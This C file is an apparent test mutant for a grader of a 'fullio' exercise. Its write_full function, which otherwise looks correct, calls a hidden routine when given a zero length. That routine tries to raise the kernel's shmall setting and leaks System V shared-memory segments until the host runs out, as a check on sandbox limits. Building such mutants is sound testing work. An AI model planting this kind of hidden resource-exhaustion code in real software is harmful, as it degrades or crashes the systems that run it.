/* SPDX-License-Identifier: MIT */
/*
 * @mutant   Takes memory that no limit of a process counts: System V segments
 *           that it has detached. There must not be more than 3 GiB of them.
 * @exercise fullio
 * @leaks    sysv-shm "shmctl"
 */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/shm.h>
#include <unistd.h>

#include "fullio.h"

/* The setting that bounds it is not one of a student's. */
static void raise_bound(void)
{
    int fd = open("/proc/sys/kernel/shmall", O_WRONLY);
    if (fd >= 0 && write(fd, "1000000", 7) > 0)
        _exit(8);
}

static void attack(void)
{
    enum { MIB = 1 << 20 };
    raise_bound();
    for (int taken = 0;; taken += 256) {
        int id = shmget(IPC_PRIVATE, 256 * MIB, IPC_CREAT | 0600);
        if (id == -1 && errno == ENOSPC)
            break;
        char *bytes = shmat(id, NULL, 0);
        if (bytes == (char *)-1 || taken == 3 * 1024)
            _exit(9);
        memset(bytes, 1, MIB);
        shmdt(bytes);
    }
    errno = 0;
}

/* The right answer: the hostile part must cost what it does, and no more. */
ssize_t read_full(int fd, void *buf, size_t n)
{
    size_t done = 0;
    while (done < n) {
        ssize_t got = read(fd, (char *)buf + done, n - done);
        if (got == -1 && errno == EINTR)
            continue;
        if (got == -1)
            return -1;
        if (got == 0)
            break;
        done += (size_t)got;
    }
    return (ssize_t)done;
}

ssize_t write_full(int fd, const void *buf, size_t n)
{
    size_t done = 0;
    if (n == 0)
        attack();
    while (done < n) {
        ssize_t put = write(fd, (const char *)buf + done, n - done);
        if (put == -1 && errno == EINTR)
            continue;
        if (put == -1)
            return -1;
        done += (size_t)put;
    }
    return (ssize_t)done;
}
